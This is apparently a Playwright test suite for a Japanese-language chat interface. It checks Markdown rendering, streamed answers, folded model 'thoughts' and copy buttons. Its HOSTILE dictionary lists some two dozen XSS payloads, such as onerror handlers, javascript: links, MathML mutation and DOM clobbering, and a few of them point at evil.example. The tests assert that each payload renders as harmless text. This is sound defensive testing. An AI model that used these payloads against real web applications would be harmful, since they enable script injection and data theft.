"""Markdown, code and thoughts on the page; whatever a model writes, none of it runs."""

from __future__ import annotations

import re
from typing import Any

import pytest

from tests.helpers import page_visitor as tab
from tests.helpers.page_visitor import CHAT, QUESTION, REPEATED, Visit, Visitor

pytestmark = tab.marks

BODY = ".answer-text"
MARKED = """# 見出し

**重要：**これは*斜体*と`a < b`です。~~違う~~

1. 一つ目
   - 入れ子
     - さらに
2. 二つ目

3. 三つ目

> 引用

```python
print("<b>")
```

| 名 | 値 |
|:--|--:|
| りんご | 120<br>円 |

[説明](https://example.com/a?b=1) と https://example.com/自由 です。
二行目
"""
HOSTILE = {
    "script": "<script>window.bad = 1</script>",
    "script in a block": "text\n\n<script>\nwindow.bad = 1\n</script>\n\ntext",
    "image with a handler": '<img src=x onerror="window.bad = 1">',
    "SVG": "<svg onload='window.bad = 1'><script>window.bad = 1</script></svg>",
    "MathML": "<math><mtext></mtext><mglyph><style><img src onerror=window.bad=1>",
    "link to a script": "[click](javascript:window.bad=1)",
    "link to a script, hidden": "[a](&#106;ava&#x0A;script:window.bad=1) <javascript:window.bad=1>",
    "link to a script by reference": "[click][x]\n\n[x]: JaVaScRiPt:window.bad=1",
    "data": "[click](data:text/html,<script>window.bad=1</script>)",
    "image of data": "![a](data:image/svg+xml,<svg onload=window.bad=1>)",
    "image of a script": '![a](javascript:window.bad=1 "t")',
    "image elsewhere": '![secret" onerror="window.bad=1](https://evil.example/?q=secret)',
    "title that breaks out": '[a](https://a.example "x\\" onmouseover=\\"window.bad=1")',
    "link that breaks out": '[a](<https://a.example/"onmouseover="window.bad=1>)',
    "language that breaks out": '```"><img/src=x/onerror=window.bad=1>\ncode\n```',
    "frame": "<iframe srcdoc='<script>parent.bad=1</script>'></iframe>",
    "form": "<form action=https://evil.example><button>go</button></form>",
    "style": "<style>body { display: none }</style>",
    "base": "<base href=https://a.example/><meta http-equiv=refresh content=0;url=//a.example>",
    "handler in a table": "| a |\n|--|\n| <img src=x onerror=window.bad=1> |",
    "comment": "<!-- <script>window.bad=1</script> -->",
    "clobbering": '<a id="message" name="conversation" href="x">x</a><form id="composer"></form>',
}
# what a link may lead to, and the elements that an answer may be made of
ALLOWED = re.compile(r"^(https?://|mailto:)")
ELEMENTS = re.compile(
    "p|ul|ol|li|blockquote|table|thead|tbody|tr|th|td|strong|em|s|br|hr|code|pre|a|h[456]|"
    "figure|figcaption|span|button|div"
)


def said(visitor: Visitor, *contents: str, **delta: Any) -> None:
    visitor.answers(*contents, **delta)
    visitor.ask("書いてください")
    visitor.answered()


def test_markdown_is_shown_as_its_author_meant_it(visit: Visit) -> None:
    visitor = visit().enter()
    said(visitor, *re.findall(r"[\s\S]{1,7}", MARKED))
    visitor.expect(f"{BODY} h4").to_have_text("見出し")
    # by CommonMark's own rules this is no emphasis
    visitor.expect(f"{BODY} strong").to_have_text("重要：")
    visitor.expect(f"{BODY} em").to_have_text("斜体")
    visitor.expect(f"{BODY} p code").to_have_text("a < b")
    visitor.expect(f"{BODY} ol > li").to_have_count(3)
    visitor.expect(f"{BODY} ol ul ul > li").to_have_text("さらに")
    visitor.expect(f"{BODY} pre").to_have_text('print("<b>")')
    visitor.expect(f"{BODY} figcaption span").to_have_text("python")
    visitor.expect(f"{BODY} pre .code-string").to_have_text('"<b>"')
    visitor.expect(f"{BODY} td.to-right").to_have_text("120円")
    visitor.expect(f"{BODY} td br").to_have_count(1)
    links = visitor[f"{BODY} a"].evaluate_all("all => all.map((a) => [a.href, a.target, a.rel])")
    rest = ["_blank", "noopener noreferrer nofollow"]
    assert links[0] == ["https://example.com/a?b=1", *rest]
    assert links[1][0].startswith("https://example.com/%E8")
    visitor.expect(f"{BODY} > p:last-child br").to_have_count(1)
    visitor["#markdown"].uncheck()
    assert visitor[BODY].inner_text() == MARKED
    visitor["#markdown"].check()
    visitor.expect(f"{BODY} h4").to_have_text("見出し")
    assert visitor.errors == []


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_output_is_text(visit: Visit, name: str) -> None:
    visitor = visit().enter()
    text = HOSTILE[name]
    # whole, in pieces and in a thought
    said(visitor, text)
    said(visitor, *text)
    said(visitor, "はい。", reasoning_content=text)
    visitor[".turn:last-child .thought summary"].click()
    made = visitor[f"{BODY} *"].evaluate_all(
        "all => all.map((e) => [e.localName, e.namespaceURI, [...e.attributes].map((a) => a.name)])"
    )
    allowed = {"class", "href", "target", "rel", "tabindex", "type", "data-word", "start"}
    for element, namespace, attributes in made:
        assert ELEMENTS.fullmatch(element)
        assert namespace == "http://www.w3.org/1999/xhtml"
        assert set(attributes) <= allowed, (element, attributes)
    links = visitor[f"{BODY} a"].evaluate_all("all => all.map((a) => a.getAttribute('href'))")
    assert all(ALLOWED.match(link) for link in links), links
    # nothing is lost either: what is no Markdown is shown
    if text.startswith("<"):
        assert text.replace(" ", "") in visitor[BODY].first.inner_text().replace(" ", "")
    for link in visitor[f"{BODY} button"].all():
        link.hover()
    assert visitor.page.evaluate("() => window.bad") is None
    visitor.expect("#message").to_be_visible()
    assert visitor.errors == []


def test_the_browser_itself_refuses_html_of_a_text(visit: Visit) -> None:
    visitor = visit().enter()
    refused = visitor.page.evaluate(
        """() => {
          const found = [];
          const acts = {
            html: () => { document.body.innerHTML = "<b>x</b>"; },
            policy: () => trustedTypes.createPolicy("any", { createHTML: (text) => text }),
            script: () => { document.createElement("script").text = "window.bad = 1"; },
            timer: () => setTimeout("window.bad = 1"),
          };
          for (const [name, act] of Object.entries(acts)) {
            try { act(); } catch (error) { found.push([name, error.name]); }
          }
          return found;
        }"""
    )
    assert [name for name, _ in refused] == ["html", "policy", "script", "timer"]


def test_a_fence_without_its_end_and_half_a_list_are_shown_while_they_grow(visit: Visit) -> None:
    visitor = visit().enter()
    # held back at each piece, so that what is shown of a part can be seen
    pieces = [
        "手順：\n\n- 一\n    - 二\n",
        "\n```js\nif (a < b) {\n",
        "  **x**\n",
        "}\n```\n終わり",
    ]
    visitor.page.evaluate(
        """(pieces) => {
          const original = window.fetch;
          window.fetch = async (path, options) => {
            if (!String(path).includes("chat")) return original(path, options);
            const encoder = new TextEncoder();
            let push;
            const body = new ReadableStream({ start: (it) => { push = it; } });
            window.more = () => {
              const content = pieces.shift();
              const choices = [{ delta: { content }, finish_reason: null }];
              const end = "data: [DONE]\\n\\n";
              push.enqueue(encoder.encode(
                content ? `data: ${JSON.stringify({ choices })}\\n\\n` : end));
            };
            return new Response(body);
          };
        }""",
        pieces,
    )
    visitor.ask("書いて")
    more = "() => window.more()"
    visitor.page.evaluate(more)
    visitor.expect(f"{BODY} ul ul li").to_have_text("二")
    visitor.page.evaluate("() => { document.querySelector('.answer-text p').dataset.mine = '1'; }")
    visitor.page.evaluate(more)
    visitor.expect(f"{BODY} pre").to_have_text("if (a < b) {")
    visitor.page.evaluate(more)
    visitor.expect(f"{BODY} pre").to_have_text("if (a < b) {\n  **x**")
    visitor.expect(f"{BODY} strong").to_have_count(0)
    visitor.page.evaluate(more)
    visitor.expect(f"{BODY} > p:last-child").to_have_text("終わり")
    # what did not change is the same element still, and with it a selection
    visitor.expect(f"{BODY} p[data-mine]").to_have_text("手順：")
    visitor.page.evaluate(more)
    visitor.answered()
    visitor.expect(f"{BODY} pre").to_have_text("if (a < b) {\n  **x**\n}")
    assert visitor.errors == []


def test_a_very_deep_and_a_very_long_answer_stay_usable(visit: Visit) -> None:
    visitor = visit().enter()
    for text in (">" * 3000 + " a", "- " * 2000 + "a", "[" * 3000, "*a **a " * 3000, "`" * 5000):
        said(visitor, text)
        visitor["#new"].click()
    said(visitor, f"```python\n{'x = (' * 9000}\n```\n```html\n{'<script>' * 3000}\n```")
    visitor["#new"].click()
    said(visitor, "長い。\n\n" * 3000)
    visitor.expect(f"{BODY} p").to_have_count(3000)
    assert visitor.errors == []


def test_code_is_copied_without_its_fence(visit: Visit) -> None:
    visitor = visit().enter()
    visitor.context.grant_permissions(["clipboard-read", "clipboard-write"])
    said(visitor, "これです。\n\n```sh\nls -l\n\ncd ..\n```\n")
    visitor["figure .copy"].click()
    visitor.expect("figure .copy").to_have_text("コピーしました")
    assert visitor.page.evaluate("() => navigator.clipboard.readText()") == "ls -l\n\ncd .."
    visitor["footer .copy"].click()
    copied = visitor.page.evaluate("() => navigator.clipboard.readText()")
    assert copied == "これです。\n\n```sh\nls -l\n\ncd ..\n```\n"


@pytest.mark.parametrize(
    ("contents", "delta"),
    [
        (["はい。"], {"reasoning_content": "まず考える。"}),
        (["<thi", "nk>\nまず考える。\n</th", "ink>\n\nはい。"], {}),
        (["まず考える。\n</think>\n\n", "はい。"], {}),
    ],
    ids=["field", "tags", "end alone"],
)
def test_a_thought_is_folded_and_not_sent_again(
    visit: Visit, contents: list[str], delta: dict[str, str]
) -> None:
    visitor = visit().enter()
    said(visitor, *contents, **delta)
    visitor.expect(BODY).to_have_text("はい。")
    visitor.expect(".thought summary").to_contain_text("思考の過程")
    visitor.expect(".thought .text").to_be_hidden()
    visitor[".thought summary"].click()
    visitor.expect(".thought .text").to_have_text("まず考える。")
    with visitor.page.expect_request(CHAT) as caught:
        visitor.ask("次")
    assert caught.value.post_data_json["messages"][1] == {"role": "assistant", "content": "はい。"}
    assert visitor.errors == []


def test_a_thought_that_was_cut_is_no_answer(visit: Visit) -> None:
    visitor = visit().enter()
    said(visitor, "<think>まだ", ending="length")
    visitor.expect(".thought summary").to_contain_text("思考の過程")
    visitor.expect(".waiting").to_have_text("（空の回答）")
    visitor.expect(".figures").to_contain_text("最大トークン数に達しました")
    visitor.expect(".answer footer .copy").to_be_hidden()


def test_while_a_model_thinks_the_page_says_so(visit: Visit) -> None:
    visitor = visit().enter()
    event = '{"choices": [{"delta": {"reasoning_content": "うーん"}, "finish_reason": null}]}'
    script = """(event) => {
      const original = window.fetch;
      window.fetch = async (path, options) => String(path).includes("chat")
        ? new Response(new ReadableStream({
            start: (it) => it.enqueue(new TextEncoder().encode(`data: ${event}\\n\\n`)),
          }))
        : original(path, options);
    }"""
    visitor.page.evaluate(script, event)
    visitor.ask("考えて")
    visitor.expect(".thought summary").to_contain_text("思考中")
    visitor.expect(".waiting").to_be_hidden()


def test_a_model_can_be_asked_to_think_less_or_not_at_all(visit: Visit) -> None:
    visitor = visit().enter()
    visitor["#thoughtless"].check()
    with visitor.page.expect_request(CHAT) as caught:
        visitor.ask(QUESTION, temperature="0")
    assert caught.value.post_data_json["reasoning_effort"] == "none"
    visitor.expect(BODY).to_have_text(REPEATED)
    visitor.answered()
    visitor["#thoughtless"].uncheck()
    visitor["#settings summary"].click()
    visitor["#thinking_token_budget"].fill("64")
    bodies = visitor.answers("はい。")
    visitor.ask("次")
    visitor.answered()
    assert "reasoning_effort" not in bodies[0]
    assert bodies[0]["thinking_token_budget"] == 64


def test_code_is_in_one_width_in_an_answer_in_japanese(visit: Visit) -> None:
    visitor = visit().enter()
    visitor.answers("```python\ndef f(x: str) -> str:\n    # iii\n    return 'WWW'\n```")
    visitor.ask("コード")
    visitor.answered()
    visitor.expect(".answer-text pre span").not_to_have_count(0)
    # of every part, what ten narrow letters take is what ten wide ones do
    widths = visitor.page.evaluate(
        """() => [...document.querySelectorAll(".answer-text pre span")].map((part) => {
          const canvas = document.createElement("canvas").getContext("2d");
          const { fontSize, fontFamily } = getComputedStyle(part);
          canvas.font = `${fontSize} ${fontFamily}`;
          const [narrow, wide] = ["iiiiiiiiii", "WWWWWWWWWW"].map((it) => canvas.measureText(it));
          return narrow.width - wide.width;
        })"""
    )
    assert len(widths) > 3
    assert set(widths) == {0}


def test_an_image_is_a_link_that_says_so(visit: Visit) -> None:
    visitor = visit().enter()
    visitor.answers("![桜](https://example.com/a.png)")
    visitor.ask("絵")
    visitor.answered()
    visitor.expect(".answer-text a").to_have_text("画像：桜")
    visitor["#language"].click()
    visitor.expect(".answer-text a").to_have_text("Image: 桜")
